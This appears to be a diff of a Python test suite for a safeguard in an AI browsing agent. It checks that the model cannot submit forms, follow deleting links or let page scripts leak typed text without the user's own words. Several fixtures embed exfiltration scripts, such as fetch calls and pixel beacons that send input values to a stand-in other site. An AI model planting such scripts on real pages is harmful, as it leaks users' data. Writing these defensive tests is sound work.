@@ -51,7 +51,7 @@ async def test_a_key_that_only_moves_is_free_by_any_of_its_names(session: Sessio
     ],
 )
 async def test_the_form_of_the_field_behind_a_wrapper_is_judged(session: Session, serve: PageServer, html: str):
-    session.provenance.words.say("My name is Ada Lovelace")
+    session.provenance.words.add_text("My name is Ada Lovelace")
     await session.call("goto", url=serve(html.replace("Save", "Delete my account")))
     it = await ref_of(session, "#it")
     assert not await as_model(session, "fill", ref=it, value="Ada Lovelace", submit=True)
@@ -83,7 +83,7 @@ async def test_an_address_that_deletes_is_asked_for_as_its_link_is(session: Sess
     assert not await as_model(session, "click", ref=(await refs(session))["Delete this page"])
     assert not await as_model(session, "goto", url=gone)
     assert not await as_model(session, "new_tab", url=gone)
-    session.provenance.words.say(f"open {gone}")
+    session.provenance.words.add_text(f"open {gone}")
     assert await as_model(session, "goto", url=gone)
 
 
@@ -146,7 +146,7 @@ async def test_a_script_does_not_send_the_form_that_another_act_filled(session: 
 async def test_keys_one_at_a_time_are_a_text_too(session: Session, serve: PageServer):
     page = """<form method=post action=/saved><input name=a aria-label=A><input name=b aria-label=B>
     <button>OK</button></form>"""
-    session.provenance.words.say("My name is Ada Lovelace")
+    session.provenance.words.add_text("My name is Ada Lovelace")
     await session.call("goto", url=serve(page))
     session.permissions = type(session.permissions).of([serve.origin], [f"press@{serve.origin}"])
     at = await refs(session)
@@ -159,7 +159,7 @@ async def test_keys_one_at_a_time_are_a_text_too(session: Session, serve: PageSe
 async def test_what_an_act_wrote_counts_although_the_act_failed(session: Session, serve: PageServer):
     page = """<form method=post action=/saved><input type=search name=a aria-label=A oninput="alert(1)">
     <input name=b aria-label=B><button>OK</button></form>"""
-    session.provenance.words.say("My name is Ada Lovelace")
+    session.provenance.words.add_text("My name is Ada Lovelace")
     await session.call("goto", url=serve(page))
     at = await refs(session)
     await session.call_as("model", "fill", ref=at["A"], value="x=1")
@@ -201,7 +201,7 @@ async def test_a_link_in_a_drawing_is_judged_like_another(session: Session, serv
     assert session.tab.url.raw.endswith("/other")
 
 
-async def test_what_a_model_made_up_is_not_told_on_when_its_page_is_loaded_again(session: Session, serve: PageServer):
+async def test_what_a_model_made_up_does_not_leak_when_its_page_is_loaded_again(session: Session, serve: PageServer):
     pixel = f"{serve.other_site}/pixel"
     page = f"""<input type=search aria-label=Find><img id=i><button onclick="i.src = '{pixel}?c=' + location.search">
     More</button><script>i.src = '{pixel}?p=' + location.search</script>"""
@@ -229,7 +229,7 @@ async def test_what_a_busy_page_makes_of_a_key_that_it_did_not_take_in_time_is_h
     assert posted(serve) == []
 
 
-async def test_what_a_model_typed_is_not_told_on_by_scripts(session: Session, serve: PageServer):
+async def test_what_a_model_typed_is_not_leaked_by_scripts(session: Session, serve: PageServer):
     page = f"""<input type=search aria-label=Find id=it oninput="tell()"><button onclick="tell()">More</button>
     <script>const tell = () => fetch('{serve.other_site}/pixel?q=' + it.value, {{ mode: 'no-cors' }})</script>"""
     await session.call("goto", url=serve(page))
@@ -237,7 +237,7 @@ async def test_what_a_model_typed_is_not_told_on_by_scripts(session: Session, se
     for act in ({"tool": "fill", "ref": at["Find"], "value": "stolen words"}, {"tool": "click", "ref": at["More"]}):
         result = await session.call_as("model", act.pop("tool"), **act)
         assert "stopped_requests" in result.followed
-    session.provenance.words.say("Find a kettle")
+    session.provenance.words.add_text("Find a kettle")
     assert (await session.call_as("model", "fill", ref=at["Find"], value="kettle")).ok
     assert [request.path for request in serve.requests if "pixel" in request.path] == ["/pixel?q=kettle"]
 
@@ -249,7 +249,7 @@ async def test_a_page_that_a_run_goes_on_with_may_have_been_made_up(session: Ses
     assert await session.return_to(url)
     assert not any("pixel" in request.path for request in serve.requests)
     session.provenance = type(session.provenance)()
-    session.provenance.words.say(f"Look at {url}")
+    session.provenance.words.add_text(f"Look at {url}")
     assert await session.return_to(url)
     assert any("pixel" in request.path for request in serve.requests)
 
@@ -262,7 +262,7 @@ CHAT = """<form id=f><textarea name=a aria-label=Comment></textarea><input name=
 
 
 async def test_a_form_that_a_script_sends_takes_no_words_but_the_users(session: Session, serve: PageServer):
-    session.provenance.words.say("Comment that Ada Lovelace was here, and find a kettle")
+    session.provenance.words.add_text("Comment that Ada Lovelace was here, and find a kettle")
     await session.call("goto", url=serve(CHAT.replace("NAME", "Send")))
     at = await refs(session)
     assert not await as_model(session, "fill", ref=at["Comment"], value="not your words")
@@ -277,22 +277,22 @@ async def test_a_form_that_a_script_sends_takes_no_words_but_the_users(session: 
     assert posted(serve) == ["/said"]
 
 
-async def test_what_was_stopped_after_its_act_is_told_with_the_next(session: Session, serve: PageServer):
+async def test_what_was_stopped_after_its_act_is_reported_with_the_next(session: Session, serve: PageServer):
     page = "<button onclick=\"setTimeout(() => fetch('/late', {method: 'POST'}), 300)\">More</button>"
     serve(page, "/there")
     await session.call("goto", url=serve(f'<a href="{serve.other_site}/there">There</a>'))
     await session.call_as("model", "click", ref=(await refs(session))["There"])
     async with session.tab.page.expect_event("requestfailed"):
         assert not (await session.call_as("model", "click", ref=(await refs(session))["More"])).followed
-    told = (await session.call_as("model", "page_info")).followed["stopped_requests"]
-    assert [one.raw for one in told] == [f"POST {serve.other_site}/late"]
+    stopped = (await session.call_as("model", "page_info")).followed["stopped_requests"]
+    assert [one.raw for one in stopped] == [f"POST {serve.other_site}/late"]
     assert posted(serve) == []
 
 
 async def test_elsewhere_such_a_form_is_searched_with_the_users_words_and_only_asks(
     session: Session, serve: PageServer
 ):
-    session.provenance.words.say("Find Ada Lovelace there")
+    session.provenance.words.add_text("Find Ada Lovelace there")
     serve(CHAT.replace("NAME", "Submit"), "/there")
     await session.call("goto", url=serve(f'<a href="{serve.other_site}/there">There</a>'))
     await session.call_as("model", "click", ref=(await refs(session))["There"])
